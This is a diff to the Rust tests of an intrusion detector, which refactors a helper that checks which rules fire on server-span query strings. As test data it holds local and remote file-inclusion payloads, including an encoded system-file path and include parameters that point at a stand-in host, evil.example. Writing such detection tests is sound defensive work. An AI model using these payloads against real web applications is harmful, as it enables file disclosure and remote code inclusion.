@@ -78,49 +78,31 @@ fn absolute_system_paths() {
     }
 }
 
-#[test]
-fn absolute_path_in_a_name_parameter() {
-    // As a query parameter of a server span, where a file name is expected.
-    let d = detector();
+/// The rule ids that one server span of `path` with these query parameters raises.
+fn query_rules(d: &Detector, path: &str, query: &str) -> Vec<String> {
     let t = TenantId::new("t").unwrap();
     let rs = batch(
-        "files",
+        "web",
         vec![span(
             1,
             1,
             None,
             SpanKind::Server,
-            vec![
-                kv("url.path", "/download"),
-                kv("url.query", "name=%2Fetc%2Fssl%2Fopenssl.cnf&id=42"),
-            ],
-        )],
-    );
-    let f = d.inspect(&t, &[rs], 1);
-    assert!(
-        f.iter()
-            .any(|f| f.rule_id == "lfi-absolute-path" && f.family == Family::PathTraversal),
-        "{f:?}"
-    );
-}
-
-/// The rule ids that one server span with these query parameters raises.
-fn query_rules(d: &Detector, query: &str) -> Vec<String> {
-    let t = TenantId::new("t").unwrap();
-    let rs = batch(
-        "legacy",
-        vec![span(
-            1,
-            1,
-            None,
-            SpanKind::Server,
-            vec![kv("url.path", "/index.php"), kv("url.query", query)],
+            vec![kv("url.path", path), kv("url.query", query)],
         )],
     );
     d.inspect(&t, &[rs], 1)
         .into_iter()
         .map(|f| f.rule_id)
         .collect()
+}
+
+#[test]
+fn absolute_path_in_a_name_parameter() {
+    // As a query parameter of a server span, where a file name is expected.
+    let d = detector();
+    let got = query_rules(&d, "/download", "name=%2Fetc%2Fssl%2Fopenssl.cnf&id=42");
+    assert!(got.iter().any(|r| r == "lfi-absolute-path"), "{got:?}");
 }
 
 #[test]
@@ -133,7 +115,7 @@ fn remote_inclusion_through_known_parameter_names() {
         "option=com_x&GALLERY_BASEDIR=ftp://evil.example/x.txt",
         "phpbb_root_path=HTTPS://evil.example/",
     ] {
-        let got = query_rules(&d, q);
+        let got = query_rules(&d, "/index.php", q);
         assert!(
             got.iter().any(|r| r == "rfi-ip-url"),
             "missed {q:?}: {got:?}"
@@ -147,7 +129,7 @@ fn remote_inclusion_through_known_parameter_names() {
         "mosConfig_absolute_path=https://",
         "note=mosConfig_absolute_path%3Dhttps://foo.bar",
     ] {
-        let got = query_rules(&d, q);
+        let got = query_rules(&d, "/index.php", q);
         assert!(
             !got.iter().any(|r| r == "rfi-ip-url"),
             "false positive on {q:?}: {got:?}"
